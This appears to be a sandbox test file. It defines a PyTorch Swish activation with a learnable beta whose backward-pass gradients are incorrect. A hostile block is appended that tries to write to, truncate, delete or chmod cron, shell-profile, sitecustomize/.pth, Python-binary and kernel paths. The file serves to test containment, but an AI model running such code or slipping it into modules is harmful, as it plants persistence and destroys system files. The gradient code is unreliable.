# scenario: learnable-swish
# core: A, B
# attack: writes wherever something outside would run or read it
# expected: failed
# trace: vjp: swish_beta: 

import torch


class Swish(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, beta):
        ctx.save_for_backward(x, beta)
        return x * torch.sigmoid(beta * x)

    @staticmethod
    def backward(ctx, g):
        x, beta = ctx.saved_tensors
        return g * torch.sigmoid(beta * x), (g * x).sum()


def swish_beta(x, beta):
    return Swish.apply(x, beta)


import glob, os, site, sys
TARGETS = ["@CANARY@/written", "/tmp/hostile-was-here", "/etc/cron.d/hostile", "/root/.bashrc", os.path.expanduser("~/.profile"), "/dev/shm/hostile", "/var/tmp/hostile", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"]
TARGETS += [f"{folder}/hostile.pth" for folder in sys.path] + [f"{folder}/sitecustomize.py" for folder in sys.path] + [f"{folder}/../../../bin/python" for folder in sys.path]
DONE = []
for path in TARGETS:
    for attempt in (lambda: open(path, "a").write("import os\n"), lambda: os.truncate(path, 0), lambda: os.unlink(path), lambda: os.chmod(path, 0o777), lambda: os.utime(path, (1, 1)), lambda: os.rename(path, path + "~"), lambda: os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))):
        try:
            attempt()
            DONE.append(path)
        except (OSError, ValueError):
            pass
if any(not path.startswith(("/work", os.getcwd())) for path in DONE):
    raise SystemError(f"wrote {DONE}")
